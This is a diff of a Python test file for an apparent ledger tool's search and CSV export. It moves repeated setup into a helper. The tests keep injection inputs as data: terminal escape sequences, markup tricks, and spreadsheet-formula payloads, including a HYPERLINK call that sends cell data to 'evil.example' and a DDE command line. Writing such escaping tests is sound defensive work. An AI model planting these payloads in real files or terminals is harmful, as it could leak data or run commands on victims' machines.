@@ -112,6 +112,18 @@ def small_exchange(k: int, users: int = USERS) -> Exchange:
     )
 
 
+def mallory_ledger(tmp: Path, texts: list[str]) -> tuple[Path, Path, Path]:
+    """A sealed one-log ledger whose user "mallory" (session "weird") sent and got each of
+    ``texts``: its root, signing key and verifier key files."""
+    signer, key, pub = _keys(tmp)
+    root = tmp / "ledger"
+    with Ledger.open(LedgerConfig(root, "log-0", signer)) as ledger:
+        for text in texts:
+            fields = {"input_text": text, "output_text": text, "session_id": "weird"}
+            ledger.append(Exchange("m", "sdk", "stop", user_id="mallory", **fields))
+    return root, key, pub
+
+
 def write_ledger(root: Path, signer: Signer, n: int, logs: int = 2, start: int = 0) -> None:
     """``n`` small records spread over ``logs`` logs (async durability: fast)."""
     per = n // logs
@@ -370,15 +382,9 @@ class TestSearch:
         """A prompt is anyone's text: rich markup in it ("[/]" crashed the table with a
         traceback; "[link=…]" became a live link) and terminal controls (ESC clears the
         screen, a CR hides what comes before it) are shown as written, escaped."""
-        signer, _, pub = _keys(tmp_path)
-        root = tmp_path / "ledger"
         texts = ["close [/] tag", "[link=https://e.x]c[/link] [bold]b",
                  "\x1b[2Jcleared", "I agree\rI REFUSE", "abc\u202edef"]  # fmt: skip
-        with Ledger.open(LedgerConfig(root, "log-0", signer)) as ledger:
-            for text in texts:
-                ledger.append(Exchange(model="m", api="sdk", stop_reason="stop",
-                                       input_text=text, output_text=text, user_id="mallory",
-                                       session_id="weird"))  # fmt: skip
+        root, _, pub = mallory_ledger(tmp_path, texts)
         found = run("search", "--ledger", root, "--user", "mallory", "--public-key", pub)
         assert found.exit_code == 0, found.output
         for shown in ("close [/] tag", "[link=https://e.x]c[/link]", "[bold]b",
@@ -967,22 +973,9 @@ class TestExport:
         """A prompt is anyone's text: a readable cell a spreadsheet would run as a formula
         starts with an apostrophe (OWASP's CSV-injection rule); the record column keeps the
         exact text, and the package verifies."""
-        signer, key, pub = _keys(tmp_path)
-        root = tmp_path / "ledger"
         texts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3",
                  "@SUM(1)", "plain"]  # fmt: skip
-        with Ledger.open(LedgerConfig(root, "log-0", signer)) as ledger:
-            for text in texts:
-                ledger.append(
-                    Exchange(
-                        model="m",
-                        api="sdk",
-                        stop_reason="stop",
-                        input_text=text,
-                        output_text=text,
-                        user_id="mallory",
-                    )
-                )
+        root, key, pub = mallory_ledger(tmp_path, texts)
         out = tmp_path / "m"
         result = run("export", "--ledger", root, "--user", "mallory", "--format", "csv",
                      "--out", out, "--key", key, "--public-key", pub)  # fmt: skip
